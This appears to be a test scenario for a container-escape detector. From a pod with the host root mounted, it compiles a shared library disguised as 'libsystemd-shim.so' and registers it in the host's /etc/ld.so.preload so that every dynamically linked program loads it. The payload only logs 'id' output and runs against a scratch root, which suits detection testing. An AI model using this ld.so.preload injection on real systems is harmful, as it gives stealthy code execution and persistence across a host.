# category: container-escape
# technique: T1014
# art: yes
# expect: host-mount-sensitive-write ld-preload-modified binary-in-path-modified
# image: debian
# opts: --bind ../../hostroot:/host
# layer: mkdir -p ../../hostroot/etc ../../hostroot/usr/local/lib && printf '# ld.so.preload\n' >../../hostroot/etc/ld.so.preload
# desc: a pod with the node's / mounted (hostPath; here a scratch root directory), without chroot, compiles a libprocesshider-style library with the image's tcc, drops it into the host's /usr/local/lib and names it in the host's /etc/ld.so.preload, so that every dynamically linked program on the node would load it
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
cat >/tmp/hook.c <<'C'
#include <stdlib.h>
__attribute__((constructor)) static void hook(void)
{
	if (!getenv("EXRAY_HOOKED")) {
		setenv("EXRAY_HOOKED", "1", 1);
		system("id >> /tmp/.hooked");
	}
}
C
tcc -shared -fPIC -o /host/usr/local/lib/libsystemd-shim.so /tmp/hook.c
echo /usr/local/lib/libsystemd-shim.so >>/host/etc/ld.so.preload
ls -l /host/usr/local/lib
cat /host/etc/ld.so.preload
